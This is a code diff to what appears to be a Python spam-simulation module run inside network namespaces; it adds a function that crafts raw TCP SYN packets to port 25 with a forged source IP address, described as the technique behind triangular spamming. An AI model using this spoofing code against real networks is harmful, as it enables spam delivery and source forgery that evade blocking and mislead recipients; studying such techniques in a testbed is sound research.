@@ -7,6 +7,7 @@ import os
 import re
 import smtplib
 import socket
+import struct
 import time
 import uuid
 from dataclasses import dataclass, field
@@ -86,6 +87,27 @@ def bot(host, destinations, seconds=2.0):
         except (OSError, smtplib.SMTPException):
             continue
     return taken
+
+
+def forged_syn(host, source, destination, port=25):
+    """Sends one SYN with another's source address, as triangular spamming does."""
+    ports = struct.pack("!HH", 40000 + next(_serial) % 20000, port)
+    segment = ports + struct.pack("!IIBBHHH", next(_serial), 0, 5 << 4, 2, 65535, 0, 0)
+    ends = socket.inet_aton(source) + socket.inet_aton(destination)
+    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
+    segment = segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]
+    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
+    with netns.inside(host.ns):
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    with raw:
+        raw.sendto(header + segment, (destination, 0))
+
+
+def _checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
 
 
 def message_id(tag):
